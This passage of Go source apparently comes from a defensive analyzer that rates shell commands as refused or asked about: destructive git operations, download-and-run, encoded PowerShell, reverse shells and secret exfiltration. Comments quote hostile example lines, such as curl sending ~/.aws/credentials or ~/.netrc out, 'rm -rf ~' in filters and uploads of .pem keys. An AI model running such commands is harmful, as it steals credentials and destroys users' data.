		case c >= 'a' && c <= 'z':
			letter = true
		case c >= '0' && c <= '9', c == '-' && i > 0 && i < len(h)-1:
		default:
			return false
		}
	}
	return letter
}

// reLocalHost is a URL without a scheme on this machine, as curl takes it (`localhost:8080/get`,
// `127.0.0.1:5000/v1/data`): curl assumes http.
var reLocalHost = lazyre.New(`^(?:localhost|127\.0\.0\.1)(?::\d+)?(?:[/?#]|$)`)

// reroutes reports whether args send the request somewhere other than its URL's host: a proxy
// (`-x`, `--proxy`, `--preproxy`, `--socks5`...) or a name given another address (`--resolve
// localhost:80:203.0.113.9`, `--connect-to`); then localhost in the URL is not this machine.
func reroutes(args []string) bool {
	for _, x := range args {
		f, _, _ := strings.Cut(x, "=")
		switch f {
		case "-x", "--proxy", "--preproxy", "--resolve", "--connect-to", "--socks4", "--socks4a", "--socks5", "--socks5-hostname", "-e", "--execute":
			return true
		}
		if strings.HasPrefix(x, "-x") && !strings.HasPrefix(x, "--") {
			return true
		}
	}
	return false
}

// localURL reports whether u (with a scheme, or a reLocalHost one without) names a service on
// this machine, with no user part (`http://localhost@evil.example/` is not local).
func localURL(u string) bool {
	if !strings.Contains(u, "://") {
		if !reLocalHost.MatchString(u) {
			return false
		}
		u = "http://" + u
	}
	p, err := url.Parse(u)
	if err != nil || p.User != nil {
		return false
	}
	h := strings.ToLower(p.Hostname())
	return h == "localhost" || h == "127.0.0.1" || h == "::1"
}

func (a *analyzer) git(args []string, line string) {
	sub := ""
	inside := a.inProject(".") // the repository the command works on is the project's
	for i := 0; i < len(args); i++ {
		x := args[i]
		if x == "-C" || x == "-c" || x == "--git-dir" || x == "--work-tree" {
			if x != "-c" && (i+1 >= len(args) || !a.inProject(args[i+1])) {
				inside = false
			}
			i++
			continue
		}
		if strings.HasPrefix(x, "--git-dir=") || strings.HasPrefix(x, "--work-tree=") {
			inside = false
		}
		if !strings.HasPrefix(x, "-") {
			sub = x
			args = args[i+1:]
			break
		}
	}
	switch sub {
	case "clean":
		if hasFlag(args, "-f", "--force") && hasFlag(args, "-x", "-X") {
			// In the project's own repository (`git clean -fdx`, a Makefile's distclean,
			// a fresh CI tree) it deletes only inside the project, as `rm -rf` of a
			// vendored folder does: asked. Another repository (`-C ~`, `cd ~`) or a
			// pathspec outside is refused.
			for _, p := range operands(args) {
				if p != "--" && !a.inProject(p) {
					inside = false
				}
			}
			if inside {
				a.ask("destroy/git_clean", "deletes untracked and ignored files (local config, secrets, data)", line, 0.85)
				break
			}
			a.add("destroy/git_clean", "deletes untracked and ignored files (local config, secrets, data)", line, 0.85)
		}
	case "reset":
		if hasFlag(args, "--hard") {
			for _, x := range operands(args) {
				if m := headBack.FindStringSubmatch(x); m != nil {
					n := 1
					if m[3] != "" {
						fmt.Sscan(m[3], &n)
					} else if strings.HasPrefix(m[2], "^") {
						n = len(m[2])
					}
					switch {
					case n < 2:
					case a.expired:
						a.add("destroy/git_reset", "discards committed history after expiring the reflog", line, 0.85)
					default:
						// The commits stay in the reflog (git-reset(1) "Undo a commit,
						// making it a topic branch", git-reflog(1)): the user's own
						// repository, recoverable, asked (issue 26, seventh round).
						a.ask("destroy/git_reset", "discards committed history and uncommitted work", line, 0.85)
					}
				}
			}
		}
	case "remote":
		if len(args) >= 3 && args[0] == "add" {
			if ops := operands(args[1:]); len(ops) >= 2 {
				if a.remotes == nil {
					a.remotes = map[string]bool{}
				}
				a.remotes[ops[0]] = true
			}
		}
	case "filter-branch", "filter-repo":
		a.rewrite(sub, args, line)
	case "reflog":
		if len(args) > 0 && args[0] == "expire" && (hasFlag(args, "--expire=now", "--expire=all") || hasPrefixFlag(args, "--expire-unreachable=now")) {
			a.expired = true
			a.add("destroy/git_reflog_expire", "expires the reflog: lost commits can no longer be recovered", line, 0.85)
		}
	case "gc", "prune":
		if hasFlag(args, "--prune=now", "--prune=all") || sub == "prune" && hasFlag(args, "--expire=now") {
			if a.expired {
				a.add("destroy/git_reflog_expire", "deletes unreachable commits after expiring the reflog", line, 0.9)
			} else {
				a.ask("destroy/git_gc_prune", "deletes unreachable commits at once", line, 0.7)
			}
		}
	case "push":
		ops := operands(args)
		switch {
		case len(ops) > 0 && a.remotes[ops[0]]:
			a.add("exfil/git_push_new_remote", "pushes the repository to a remote added earlier on the line", line, 0.9)
		case len(ops) > 0 && repoAddress(ops[0]) || repoAddress(flagValue(args, "--repo")):
			// git-push(1) "GIT URLS": the repository may be written as an address instead of a
			// configured remote's name. The code goes to whoever that address names, which no
			// remote the user set up vouches for: a new repository of the user's own, or an
			// exfiltration. Asked.
			a.ask("exfil/git_push_url", "pushes the repository to an address written on the line, not a configured remote", line, 0.85)
		}
		a.push(args, line)
	}
}

// repoAddress reports whether a git repository argument is an address rather than a remote's
// name or a local path (git-push(1) "GIT URLS"): a URL with a scheme other than file://, or the
// scp-like `[user@]host:path` form (no slash before the first colon, a dot or an @ in the host).
func repoAddress(r string) bool {
	if scheme, _, ok := strings.Cut(r, "://"); ok {
		return scheme != "file" && scheme != ""
	}
	host, path, ok := strings.Cut(r, ":")
	if !ok || host == "" || path == "" || strings.Contains(host, "/") {
		return false
	}
	return strings.ContainsAny(host, ".@")
}

// flagValue returns the value of a long flag given as `--name=value` or `--name value`.
func flagValue(args []string, name string) string {
	for i, x := range args {
		if v, ok := strings.CutPrefix(x, name+"="); ok {
			return v
		}
		if x == name && i+1 < len(args) {
			return args[i+1]
		}
	}
	return ""
}

// rewrite judges a history rewrite. git filter-branch keeps the rewritten refs under
// refs/original/ and in the reflog (git-filter-branch(1) "CHECKLIST FOR SHRINKING A
// REPOSITORY": the old objects stay until those are removed), and BFG leaves the reflog and
// the old objects for the user to expire: the user's own repository, recoverable, asked.
// git filter-repo expires the reflogs and prunes the old objects itself when it is done
// (its FAQ, "Help! Can I recover or undo the filtering?": only a backup clone can): nothing
// is left to recover, refused; so is any rewrite after the line expired the reflog (issue
// 26, seventh round).
//
// filter-branch's filters are shell commands it evaluates in every commit (`--tree-filter
// 'rm -rf ~'` runs rm -rf ~ once per commit), and --setup one it evaluates before them: each
// is judged as a line of its own.
func (a *analyzer) rewrite(tool string, args []string, line string) {
	if tool == "filter-branch" {
		for i, x := range args {
			k, v, eq := strings.Cut(x, "=")
			if !strings.HasPrefix(k, "--") || !strings.HasSuffix(k, "-filter") && k != "--setup" {
				continue
			}
			if !eq {
				if i+1 >= len(args) {
					continue
				}
				v = args[i+1]
			}
			a.line(v, a.depth+1)
		}
	}
	if tool == "filter-repo" || a.expired {
		a.add("destroy/git_rewrite", "rewrites the repository's whole history", line, 0.85)
		return
	}
	a.ask("destroy/git_rewrite", "rewrites the repository's history (the old refs stay under refs/original and in the reflog)", line, 0.85)
}

// push judges a git push that rewrites or deletes refs on the remote: --force, `+ref`,
// --delete, `:ref`, --mirror. Naming the feature branches or tags it rewrites or deletes
// (`git push --force origin my-feature` after a rebase, `git push origin --delete
// fix-typo` after a merge) is asked about: the remote's other clones and its reflog still
// hold the commits, and git-push(1) documents both for this. A forced update of a named
// default or release branch (`git push origin +dev:master`, git-push(1)'s own example) is
// asked too since issue 26's seventh round: the old tip stays in the pusher's reflog of the
// remote-tracking branch and in every other clone. A forced push that names no ref (the
// current branch) is asked since det65, for the same reason. Deleting a default or release
// branch (protectedRef), --all, --tags, --mirror, a glob, a ref the line cannot resolve or any
// of these after `git reflog expire` are refused as before.
func (a *analyzer) push(args []string, line string) {
	force := hasFlag(args, "--force", "-f")
	del := hasFlag(args, "--delete", "-d")
	for _, x := range args {
		if strings.HasPrefix(x, "+") {
			force = true
		}
		if strings.HasPrefix(x, ":") && len(x) > 1 {
			del = true
		}
	}
	if hasFlag(args, "--mirror") {
		a.add("destroy/git_force_push", "rewrites or deletes history on the remote", line, 0.8)
		return
	}
	if !force && !del {
		return
	}
	refs := operands(args)
	if len(refs) > 0 {
		refs = refs[1:] // the remote
	}
	all := hasFlag(args, "--all", "--branches", "--tags")
	named := len(refs) > 0 && !all
	if len(refs) == 0 && force && !del && !all && !a.expired {
		// `git push -f`, `git push --force origin`: the current branch to its upstream
		// (push.default=simple, git's default since 2.0), which at worst is the default
		// branch, and a forced update of that by name is asked (det65).
		a.ask("destroy/git_force_push", "rewrites the current branch on the remote", line, 0.8)
		return
	}
	for _, r := range refs {
		r = strings.TrimPrefix(r, "+")
		deleted := del
		if src, dst, ok := strings.Cut(r, ":"); ok {
			r, deleted = dst, deleted || src == ""
		}
		if loneVar(r, a.src) {
			continue
		}
		if unresolvedRef(r) || deleted && protectedRef(r) {
			named = false
		}
	}
	if named {
		a.ask("destroy/git_force_push", "rewrites or deletes a named branch or tag on the remote", line, 0.8)
		return
	}
	a.add("destroy/git_force_push", "rewrites or deletes history on the remote", line, 0.8)
}

// loneVar reports whether w is one variable and nothing else (`$BRANCH`, `${NEW_BRANCH}`): a ref
// the line cannot resolve, which a person asked about can (a release script's own branch), unlike
// a glob or a default branch; pushed over by force it is asked about rather than refused (issue
// 26, sixth round: data/heldout/shell-extra's backport and release-PR scripts).
//
// The word is as the analyzer expanded it, so src (the line as given) must hold the variable
// plainly too, as `$NAME` or `${NAME}`: `${BRANCH:-main}` reaches here as `$BRANCH` and may well
// be main.
func loneVar(w, src string) bool {
	w, ok := strings.CutPrefix(w, "$")
	if !ok {
		return false
	}
	if strings.HasPrefix(w, "{") && strings.HasSuffix(w, "}") {
		w = w[1 : len(w)-1]
	}
	if !strings.Contains(src, "${"+w+"}") && !plainVar(src, w) {
		return false
	}
	if w == "" || !(w[0] == '_' || w[0]|0x20 >= 'a' && w[0]|0x20 <= 'z') {
		return false
	}
	for i := 1; i < len(w); i++ {
		if c := w[i]; !(c == '_' || c|0x20 >= 'a' && c|0x20 <= 'z' || c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

// plainVar reports whether line holds $name not followed by a character of a longer name.
func plainVar(line, name string) bool {
	for i := 0; ; {
		j := strings.Index(line[i:], "$"+name)
		if j < 0 {
			return false
		}
		end := i + j + 1 + len(name)
		if end == len(line) || !(line[end] == '_' || line[end]|0x20 >= 'a' && line[end]|0x20 <= 'z' || line[end] >= '0' && line[end] <= '9') {
			return true
		}
		i = end
	}
}

// protectedRef reports whether a ref pushed over or deleted is one a project shares: its
// default branch (main, master, trunk, develop...), a release or production branch, HEAD,
// nothing at all, a glob, or anything the line cannot resolve.
func protectedRef(r string) bool {
	r = strings.TrimPrefix(strings.TrimPrefix(r, "refs/heads/"), "refs/tags/")
	if unresolvedRef(r) {
		return true
	}
	switch l := strings.ToLower(r); {
	case l == "head" || strings.HasPrefix(l, "head~") || strings.HasPrefix(l, "head^"):
		return true
	case l == "main" || l == "master" || l == "trunk" || l == "develop" || l == "development" || l == "dev" ||
		l == "prod" || l == "production" || l == "stable" || l == "gh-pages" || l == "default":
		return true
	case strings.HasPrefix(l, "release") || strings.HasPrefix(l, "releases/") || strings.HasPrefix(l, "prod/") || strings.HasPrefix(l, "hotfix"):
		return true
	}
	return false
}

// unresolvedRef reports whether a ref pushed names nothing, a glob or what the line cannot
// resolve.
func unresolvedRef(r string) bool {
	r = strings.TrimPrefix(strings.TrimPrefix(r, "refs/heads/"), "refs/tags/")
	return r == "" || strings.ContainsAny(r, "*?[$`") || strings.HasPrefix(r, "-")
}

// interp checks inline code given to an interpreter (-c, -e, -E, -r, --eval, -p, perl's -le
// and -ne) and a script file it runs that the line wrote or downloaded earlier.
func (a *analyzer) interp(name string, args []string, line string) {
	lang := interpLang(name)
	shellish := shellLang(lang)
	if lang == "pwsh" || lang == "powershell" {
		if text, ok := psEncoded(args); ok {
			// `powershell -enc B64`: the command is hidden from whoever reads the line; a
			// careful reviewer asks, and what it decodes to is judged (pwsh.go).
			a.ask("exec/decode_run", "runs a base64-encoded PowerShell command", line, 0.85)
			if text != "" {
				a.code(lang, text, line)
			}
			return
		}
	}
	for i := range args {
		code := inlineCodeAt(lang, args, i, shellish)
		if code == "" {
			continue
		}
		if code == httpsMarker {
			// `sh -c "$(curl -fsSL https://taskfile.dev/install.sh)"`: a script fetched over
			// https from a named host, as when it is piped into sh.
			a.ask("exec/https_script", "runs a script fetched over https from a named host", line, 0.9)
			return
		}
		if strings.Contains(code, remoteMarker) {
			a.add("exec/download_run", "runs downloaded content", line, 0.95)
		}
		if strings.Contains(code, decodedMarker) {
			a.add("exec/decode_run", "runs code decoded or transformed from text on the line (hides what runs)", line, 0.9)
		}
		if shellish {
			// `sh -c 'CMD' NAME ARGS…`: NAME is $0 and ARGS are $1… inside CMD (bash(1) -c),
			// so `bash -c '$0 -rf ~' rm` runs rm.
			rest := args[min(i+2, len(args)):]
			if attachedCode(lang, args[i]) != "" {
				rest = args[i+1:]
			}
			params, arg0 := a.params, a.arg0
			if len(rest) > 0 {
				a.arg0, a.params = rest[0], append([]string{}, rest[1:]...)
			}
			a.line(code, a.depth+1)
			a.params, a.arg0 = params, arg0
			return
		}
		a.code(lang, code, line)
		return
	}
	for i, x := range args {
		script := !strings.HasPrefix(x, "-") && runsFile(name, args[i:])
		if script && x == httpsMarker {
			// `bash <(curl -fsSL https://<host>/install.sh)`: the same script as piped into
			// bash, read from a pipe's file instead of standard input.
			a.ask("exec/https_script", "runs a script fetched over https from a named host", line, 0.9)
			return
		}
		if remote(x) {
			a.add("exec/download_run", "runs downloaded content", line, 0.95)
		}
		if script {
			if shellish {
				lang = "sh"
			}
			a.runScript(x, lang, line)
			return
		}
	}
}

// shellLang reports whether lang (an interpreter's name without its version) is a POSIX-style
// shell whose -c takes a command line.
func shellLang(lang string) bool {
	switch lang {
	case "sh", "bash", "zsh", "dash", "ksh", "ash", "fish":
		return true
	}
	return false
}

// inlineCodeAt is the inline code the interpreter argument args[i] gives: its own attached code
// (attachedCode) or, for an option that takes code next (inlineFlag), the argument after it;
// "" for any other argument.
func inlineCodeAt(lang string, args []string, i int, shellish bool) string {
	if code := attachedCode(lang, args[i]); code != "" {
		return code
	}
	if inlineFlag(lang, args[i], shellish) && i+1 < len(args) {
		return args[i+1]
	}
	return ""
}

// attachedCode is the inline code of an option that carries it in the same word: python's
// `-c'…'`, perl's and ruby's `-e'…'` (`ruby -rsocket -e'f=TCPSocket.open…'`), php's `-r'…'`;
// "" for any other word.
func attachedCode(lang, x string) string {
	if len(x) <= 2 || x[0] != '-' {
		return ""
	}
	switch {
	case lang == "python" && x[1] == 'c',
		(lang == "perl" || lang == "ruby") && (x[1] == 'e' || x[1] == 'E'),
		lang == "php" && x[1] == 'r':
		return x[2:]
	}
	return ""
}

// inlineFlag reports whether x is an interpreter option that takes inline code next.
func inlineFlag(lang, x string, shellish bool) bool {
	switch x {
	case "-c", "-e", "-E", "-r", "--eval", "-p", "--print", "-Command", "-command":
		return true
	}
	if shellish {
		return strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") && strings.Contains(x, "c")
	}
	if lang == "perl" || lang == "ruby" {
		// perl -le, -ne, -pe, -wE: the last letter takes the code. An option whose value is
		// the rest of the word is not a bundle (perlrun: -M, -m, -I, -x, -C, -D, -d, -i, -0;
		// ruby: -r, -I, -C, -x, -E, -F, -K): `-MFile::Path=remove_tree` names a module.
		takesRest := "MmIxCDdi0"
		if lang == "ruby" {
			takesRest = "rICxEFK0"
		}
		return len(x) > 2 && x[0] == '-' && x[1] != '-' && strings.IndexByte(takesRest, x[1]) < 0 && (x[len(x)-1] == 'e' || x[len(x)-1] == 'E')
	}
	return false
}

// net checks a network command's arguments for the environment, secrets and metadata endpoints.
func (a *analyzer) net(name string, args []string, line string) {
	a.pasteUpload(name, args, line) // exfil.go
	a.copyToHost(name, args, line)  // exfil.go
	a.uploadArchive(name, args, line)
	a.uploadHome(name, args, line)
	if name == "socat" && socatShell(args) {
		a.add("exfil/reverse_shell", "attaches a shell to a network connection", line, 0.95)
	}
	for i, x := range args {
		switch {
		case envSubst.MatchString(x):
			a.add("exfil/env_to_network", "sends the environment over the network", line, 0.95)
		case secretName.MatchString(x):
			switch authTarget(name, args, i) {
			case authOwnHost:
				// the token authenticates the call to the service that issued it, or to a
				// service on this machine
			case authOtherHost:
				a.ask("exfil/secret_var", "sends a secret variable as a credential to a host that did not issue it", line, 0.9)
			default:
				a.add("exfil/secret_var", "sends a secret variable over the network", line, 0.9)
			}
		case strings.Contains(x, secretMarker):
			// `curl https://x/$(cat ~/.aws/credentials | base64)`, `curl -d "$(cat ~/.netrc)" URL`
			a.add("exfil/secret_file", "sends a secret file's content over the network", line, 0.95)
		case metadataURL.MatchString(x):
			a.add("exfil/metadata", "reads cloud instance credentials (metadata endpoint)", line, 0.95)
		case (strings.HasPrefix(x, "@") || strings.Contains(x, "=@") || strings.HasPrefix(x, "<")) && secretFile(x):
			a.add("exfil/secret_file", "uploads a secret file", line, 0.95)
		case (name == "nc" || name == "ncat" || name == "netcat") && (x == "-e" || x == "-c") && i+1 < len(args):
			a.add("exfil/reverse_shell", "attaches a shell to a network connection", line, 0.95)
		case (name == "curl" && (x == "-T" || x == "--upload-file" || x == "-d" || x == "--data" || x == "--data-binary" || x == "-F")) && i+1 < len(args) && secretFile(args[i+1]) && strings.Contains(args[i+1], "@"):
			a.add("exfil/secret_file", "uploads a secret file", line, 0.95)
		case name == "curl" && (x == "-T" || x == "--upload-file") && i+1 < len(args) && secretFile(args[i+1]):
			a.add("exfil/secret_file", "uploads a secret file", line, 0.95)
		case (name == "scp" || name == "rsync") && secretFile(x) && i+1 < len(args) && strings.Contains(args[len(args)-1], ":") && (i == 0 || args[i-1] != "-i"):
			// (scp -i KEY signs the login with the key; it does not copy it: KeyUse)
			a.add("exfil/secret_file", "copies a secret file to another host", line, 0.95)
		case (strings.HasPrefix(x, "@") || strings.Contains(x, "=@") || strings.HasPrefix(x, "<")) && keyFile.MatchString(x),
			name == "curl" && (x == "-T" || x == "--upload-file") && i+1 < len(args) && keyFile.MatchString(args[i+1]):
			// A private key or a certificate by its file type (`curl -F f=@server.key`): a
			// certificate is sent to a CA or a service on purpose, a key should never leave;
			// the name alone does not tell them apart, so a project's file asks. One from
			// the home or system folders (`find ~ -name '*.pem' | xargs -I{} curl -F
			// f=@{} …`) is what PathRisk counts secret: refused.
			f := x
			if !strings.Contains(x, "@") && !strings.HasPrefix(x, "<") {
				f = args[i+1]
			}
			if PathRisk(f) == RiskSecret {
				a.add("exfil/secret_file", "uploads a key file from the home or system folders", line, 0.95)
			} else {
				a.ask("exfil/key_file", "uploads a key or certificate file", line, 0.9)
			}
		}
	}
}

// projectSetgid reports whether chmod's mode x sets the setgid bit alone (`2710`, `g+s`) on
// files inside the project without elevated privileges (groupmems(8)'s `chmod 2710
// groupmems`): the file runs with a group its owner, the invoking user, already has, so
// nothing is taken; asked. The setuid bit, sudo, or a file outside the project stay refused
// (issue 26, seventh round).
func (a *analyzer) projectSetgid(x string, args []string) bool {
	if a.elevated > 0 || !(x == "g+s" || len(x) == 4 && x[0] == '2') {
		return false
	}
	n := 0
	for _, t := range operands(args) {
		if t == x {
			continue
		}
		if !a.inProject(t) {
			return false
		}
		n++
	}
	return n > 0
}

// expiresOne reports whether passwd's arguments only expire one named user's password
// (`passwd -e USER`, `passwd USER --expire`).
func expiresOne(args []string) bool {
	exp, users := false, 0
	for _, x := range args {
		switch {
		case x == "-e" || x == "--expire":
			exp = true
		case strings.HasPrefix(x, "-"):
			return false
		default:
			users++
		}
	}
	return exp && users == 1
}

// ListFile reports whether option x of program name is followed by the file find writes its
// list to (-fprint, -fprint0, -fprintf, -fls).
func ListFile(name, x string) bool {
	return base(name) == "find" && (x == "-fprint" || x == "-fprint0" || x == "-fprintf" || x == "-fls")
}
